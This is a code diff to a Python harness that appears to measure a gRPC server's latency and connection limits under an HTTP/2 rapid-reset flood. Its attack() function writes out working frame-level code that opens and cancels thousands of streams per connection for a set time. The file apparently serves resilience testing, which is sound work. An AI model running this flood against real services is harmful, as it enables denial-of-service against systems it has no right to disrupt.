@@ -4,16 +4,13 @@ import contextlib
 import multiprocessing
 import socket
 import statistics
-import threading
 import time
 
-from idle_streams import DATA, END_HEADERS, END_STREAM, HEADERS, SETTINGS, field, frame
-from programs import h2load
+from idle_streams import ACK, DATA, END_HEADERS, END_STREAM, HEADERS, SETTINGS, field, frame
 
 RST_STREAM = 3
 CANCEL = (8).to_bytes(4, "big")
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
-RESETS = 100_000
 # More than one connection is allowed before it is ended.
 RESETS_PER_CONNECTION = 2_000
 
@@ -30,22 +27,22 @@ def header_block(address: str, path: str) -> bytes:
     return b"".join(field(*each) for each in [*fields, ("content-type", "application/grpc"), ("te", "trailers")])
 
 
-def attack(address: str, path: str, resets: int) -> None:
-    """Opens and resets so many streams, on as many connections as it takes."""
+def attack(address: str, path: str, seconds: float, told: multiprocessing.Queue) -> None:
+    """Opens and resets streams all the time, on as many connections as it takes; tells how many it was let."""
     block = header_block(address, path)
     bytes_of_all = PREFACE + b"".join(
         frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
         for stream in range(1, 2 * RESETS_PER_CONNECTION, 2)
     )
-    each = len(bytes_of_all) // RESETS_PER_CONNECTION
-    sent = 0
-    while sent < resets:
+    connections = 0
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        connections += 1
         with connect(address) as connection, contextlib.suppress(OSError):
-            rest = memoryview(bytes_of_all)
-            while rest:
-                part = connection.send(rest[:65_536])
-                sent += part // each
-                rest = rest[part:]
+            connection.sendall(bytes_of_all)
+            while connection.recv(65_536):
+                pass
+    told.put(connections)
 
 
 class Caller:
@@ -79,8 +76,8 @@ class Caller:
                 return False
             kind, flags, stream = self.received[3], self.received[4], int.from_bytes(self.received[5:9], "big")
             self.received = self.received[end:]
-            if kind == SETTINGS and not flags & 1:
-                self.socket.sendall(frame(SETTINGS, 1, 0))
+            if kind == SETTINGS and not flags & ACK:
+                self.socket.sendall(frame(SETTINGS, ACK, 0))
             if stream == self.stream and (flags & END_STREAM or kind == RST_STREAM):
                 return True
         return False
@@ -97,22 +94,16 @@ def percentile(times: list[float], of: float) -> float:
     return statistics.quantiles(times, n=1000, method="inclusive")[round(of * 1000) - 1]
 
 
-def measure(address: str, path: str, message: bytes, resets: int = RESETS) -> tuple[list[float], list[float], float]:
-    """Times of calls before and during an attack, and how many resets a second there were."""
+def measure(address: str, path: str, message: bytes, seconds: float) -> tuple[list[float], list[float], int]:
+    """Times of calls before and during an attack, and how many connections the attacker lost."""
     caller = Caller(address, path, message)
     caller.times(count=500)
     normal = caller.times(count=3_000)
-    attacker = multiprocessing.get_context("spawn").Process(target=attack, args=(address, path, resets))
+    context = multiprocessing.get_context("spawn")
+    told = context.Queue()
+    attacker = context.Process(target=attack, args=(address, path, seconds, told))
     attacker.start()
-    began = time.monotonic()
     attacked = caller.times(until=attacker)
-    return normal, attacked, resets / (time.monotonic() - began)
-
-
-if __name__ == "__main__":
-    import sys
-
-    normal, attacked, rate = measure(sys.argv[1], sys.argv[2], bytes(5), int(sys.argv[3]))
-    for name, times in [("normal", normal), ("attacked", attacked)]:
-        print(f"{name}: {len(times)} calls, p50 {percentile(times, .5) * 1e3:.3f} ms, p99 {percentile(times, .99) * 1e3:.3f} ms, max {max(times)*1e3:.2f}")
-    print(f"{rate:,.0f} resets/s")
+    if attacker.exitcode:
+        raise SystemExit("the attacker failed")
+    return normal, attacked, told.get(timeout=10)
